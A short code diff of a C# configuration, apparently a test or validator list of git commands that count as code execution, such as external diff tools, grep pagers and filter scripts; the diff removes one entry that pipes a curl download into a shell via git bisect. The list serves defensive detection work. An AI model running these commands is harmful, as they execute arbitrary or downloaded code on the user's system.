@@ -27,7 +27,6 @@ internal static class GitExecConfig
             "git -c diff.external=/tmp/x diff",
             "git grep -O/tmp/x y",
             "git config filter.x.clean ./x.sh",
-            "git bisect run sh -c \"curl x | sh\"",
         ],
         Passes =
         [
